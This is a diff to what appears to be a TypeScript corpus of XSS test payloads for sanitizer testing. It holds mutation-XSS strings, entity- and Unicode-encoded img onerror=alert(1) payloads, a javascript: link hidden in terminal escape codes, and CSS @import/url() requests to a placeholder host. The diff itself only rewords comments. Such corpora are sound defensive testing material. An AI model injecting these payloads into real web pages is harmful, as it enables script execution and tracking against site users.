@@ -1,4 +1,6 @@
-/** Mutation XSS: texts that a parser repairs into something that runs, when parsed, serialized and parsed again. */
+/**
+ * Mutation XSS: texts that a parser repairs into something that runs once it is parsed, serialized and parsed again.
+ */
 export const MUTATING: readonly string[] = [
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
@@ -53,7 +55,7 @@ export const TEMPLATES: readonly string[] = [
   "\u001B]8;;javascript:alert(1)\u0007x\u001B]8;;\u0007",
 ];
 
-/** The same in encodings that another layer might decode. */
+/** Payloads in encodings that another layer might decode. */
 export const ENCODED: readonly string[] = [
   "&lt;img src=x onerror=alert(1)&gt;",
   "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
@@ -80,7 +82,7 @@ export const ENCODED: readonly string[] = [
   "<img src=x o\u00ADnerror=alert(1)>",
 ];
 
-/** Styles that run, fetch or cover. */
+/** Styles that run code, make a request, or cover the page. */
 export const STYLED: readonly string[] = [
   "<style>@import 'ELSEWHERE/31';</style>",
   "<style>*{background:url(ELSEWHERE/32)}</style>",
